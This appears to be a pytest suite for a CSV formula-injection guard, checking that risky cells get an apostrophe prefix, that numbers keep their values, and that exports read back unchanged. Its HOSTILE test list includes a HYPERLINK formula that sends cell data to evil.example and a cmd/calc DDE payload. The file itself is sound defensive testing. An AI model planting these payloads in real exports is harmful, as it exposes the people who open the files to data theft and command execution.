"""The one CSV guard: formula cells get an apostrophe, numbers stay numbers, and the guard undoes
exactly, so exported frames read back as they were."""

import csv
import io

import pandas as pd
import pytest

from analysis.export import export_frames, read_frames
from analysis.safe_csv import restore_cell, safe_cell, writer
from analysis.safe_frames import restore_frame, safe_frame

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "   =1+1",
    "\n@x",
    "-",
]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t1", "'\t1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("'=1", "''=1"),
        ("", ""),
        ("p0123", "p0123"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("-3.5", "-3.5"),
        ("+1", "+1"),
        ("-2e3", "-2e3"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_it_quotes_only_cells_that_would_run_as_formulas(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("value", [*HOSTILE, "'=x", "''+y", "'plain", "plain", "-1.5", ""])
def test_restoring_a_guarded_cell_gives_the_original(value):
    assert restore_cell(safe_cell(value)) == value


def test_the_writer_guards_every_cell_of_every_row():
    handle = io.StringIO()
    sheet = writer(handle)
    sheet.writerow(["=1", "ok", 3])
    sheet.writerows([["@x", "-1.5"], ["+a", None]])
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert rows == [["'=1", "ok", "3"], ["'@x", "-1.5"], ["'+a", ""]]


def test_a_frame_keeps_its_numbers_and_dtypes():
    frame = pd.DataFrame(
        {
            "text": pd.array(["=1", None, "fine"], dtype="string"),
            "value": [-1.5, 2.0, -3.0],
            "count": pd.array([-1, None, 2], dtype="Int64"),
        }
    )
    guarded = safe_frame(frame)
    assert guarded["text"].tolist()[0] == "'=1"
    assert guarded["value"].tolist() == [-1.5, 2.0, -3.0]
    assert guarded.dtypes.tolist() == frame.dtypes.tolist()
    pd.testing.assert_frame_equal(restore_frame(guarded), frame)


def test_an_exported_csv_has_no_formula_cell_and_reads_back_exactly(tmp_path):
    frame = pd.DataFrame(
        {
            "text": pd.array([*HOSTILE, "'=x", "plain"], dtype="string"),
            "n": pd.array(range(len(HOSTILE) + 2), dtype="Int64"),
        }
    )
    export_frames({"turns": frame}, tmp_path, "csv")
    with (tmp_path / "turns.csv").open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    formulas = [c for c in cells if c[:1] in "=+-@\t\r" or c.lstrip()[:1] in "=+-@"]
    assert formulas == []
    pd.testing.assert_frame_equal(read_frames(tmp_path)["turns"], frame)
